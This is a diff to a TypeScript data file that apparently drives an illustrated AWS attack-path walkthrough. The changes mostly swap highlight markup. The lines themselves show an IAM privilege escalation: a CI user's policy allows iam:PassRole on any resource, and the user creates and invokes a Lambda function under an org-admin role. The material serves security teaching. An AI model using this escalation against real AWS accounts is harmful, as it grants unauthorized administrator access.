@@ -21,7 +21,7 @@ export const awsPath: AttackPath = {
       lines: [
         '$ aws sts get-caller-identity',
         '{ "Account": "111122223333",',
-        '  "Arn": "arn:aws:iam::111122223333:user/{+dev-ci+}" }',
+        '  "Arn": "arn:aws:iam::111122223333:user/dev-ci" }',
       ],
     },
     {
@@ -31,8 +31,8 @@ export const awsPath: AttackPath = {
       name: 'See what it can do',
       lines: [
         '"Sid": "DeployFunctions", "Effect": "Allow",',
-        '"Action": ["lambda:*", {-"iam:PassRole"-}],',
-        '"Resource": {-"*"-}',
+        '"Action": ["lambda:*", {!"iam:PassRole"!}],',
+        '"Resource": {!"*"!}',
       ],
     },
     {
@@ -43,7 +43,7 @@ export const awsPath: AttackPath = {
       lines: [
         '$ aws lambda create-function --function-name t1 \\',
         '    --role {-arn:aws:iam::111122223333:role/org-admin-} [...] {#1}',
-        '{ "State": {+"Pending"+}, "Role": {+"[...]:role/org-admin"+} }',
+        '{ "State": {!"Pending"!}, "Role": {!"[...]:role/org-admin"!} }',
       ],
       notes: ['no limit on which role, or who gets it'],
       after: [
@@ -61,7 +61,7 @@ export const awsPath: AttackPath = {
       lines: [
         '$ aws lambda invoke --function-name t1 out.json',
         '$ cat out.json',
-        '{ "Arn": "[...]:assumed-role/{+org-admin+}/t1" }',
+        '{ "Arn": "[...]:assumed-role/{!org-admin!}/t1" }',
       ],
       after: ['$ aws lambda invoke --function-name t1 out.json', '{+ResourceNotFoundException+}'],
     },
